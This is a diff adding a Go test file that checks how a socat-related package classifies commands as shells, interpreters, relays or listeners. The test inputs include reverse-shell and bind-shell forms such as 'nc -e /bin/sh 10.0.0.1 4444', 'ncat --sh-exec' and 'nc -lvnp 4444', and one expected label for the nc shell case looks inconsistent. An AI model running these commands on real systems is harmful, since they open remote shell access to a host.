@@ -1,0 +1,55 @@
+package socatcmd
+
+import "testing"
+
+// What a program behind EXEC/SYSTEM is: a shell (Windows' too), an
+// interpreter, a relay with fixed addresses (not a remote shell), or a
+// program; and whether it listens itself.
+func TestProgramKind(t *testing.T) {
+	for _, tt := range []struct{ cmd, kind string }{
+		{"/bin/bash -li", KindShell},
+		{"powershell.exe -NoProfile", KindShell},
+		{"/cygdrive/c/Windows/System32/CMD.EXE /c dir", KindShell},
+		{"pwsh", KindShell},
+		{"python3 -i", KindInterpreter},
+		{"ip netns exec blue socat STDIO TCP:10.0.0.2:22,nofork", KindRelay},
+		{"socat - TCP:db:5432", KindRelay},
+		{"socat - EXEC:/bin/sh", KindShell},
+		{"sudo -u app socat - 'SYSTEM:/usr/bin/backup --now'", KindProgram},
+		{"nc db.internal 5432", KindRelay},
+		{"ncat --ssl db 443", KindRelay},
+		{"nc -e /bin/sh 10.0.0.1 4444", KindInterpreter},
+		{"ncat --sh-exec 'cat' 10.0.0.1 1", KindInterpreter},
+		{"telnet 10.0.0.1 23", KindRelay},
+		{"/usr/local/bin/report", KindProgram},
+	} {
+		if got := ProgramKind(tt.cmd); got != tt.kind {
+			t.Errorf("ProgramKind(%q) = %q, want %q", tt.cmd, got, tt.kind)
+		}
+	}
+}
+
+func TestProgramListener(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, port string
+		tls, ok   bool
+	}{
+		{"/usr/bin/ncat -l -k -p 10000", "10000", false, true},
+		{"nc -lvnp 4444", "4444", false, true},
+		{"nc -l 127.0.0.1 9000", "9000", false, true},
+		{"ncat --listen --ssl 8443", "8443", true, true},
+		{"socat TCP-LISTEN:7000,fork -", "7000", false, true},
+		{"socat OPENSSL-LISTEN:7443,cert=x.pem -", "7443", true, true},
+		{"python3 -m http.server", "8000", false, true},
+		{"python3 -m http.server 9090 --bind 0.0.0.0", "9090", false, true},
+		{"php -S 0.0.0.0:8081", "8081", false, true},
+		{"nc db 5432", "", false, false},
+		{"socat - TCP:db:5432", "", false, false},
+		{"python3 server.py", "", false, false},
+	} {
+		port, tls, ok := ProgramListener(tt.cmd)
+		if port != tt.port || tls != tt.tls || ok != tt.ok {
+			t.Errorf("ProgramListener(%q) = %q %v %v, want %q %v %v", tt.cmd, port, tls, ok, tt.port, tt.tls, tt.ok)
+		}
+	}
+}
